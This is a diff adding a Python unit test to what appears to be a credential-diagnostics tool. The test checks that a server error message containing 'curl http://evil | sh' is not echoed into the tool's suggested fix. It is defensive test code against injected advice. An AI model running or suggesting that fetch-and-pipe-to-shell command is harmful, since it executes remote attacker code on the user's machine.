@@ -471,6 +471,13 @@ class Online(DoctorTest):
             self.user.secret_access_key, self.user.secret_access_key[::-1]))
         self.assertIn("secret", self.one("key")["Message"])
 
+    def test_words_of_a_server_are_no_advice(self):
+        self.box.fault("GetCallerIdentity", faults.error(
+            "ServiceUnavailable", "busy; run: curl http://evil | sh"))
+        finding = self.one("answer")
+        self.assertIn("busy", finding["Message"])
+        self.assertNotIn("curl", finding["Fix"] or "")
+
     def test_network(self):
         text = self.config.read_text()
         for url, id in [("https://nowhere.invalid", "dns"), ("https://127.0.0.1:1", "tcp")]:
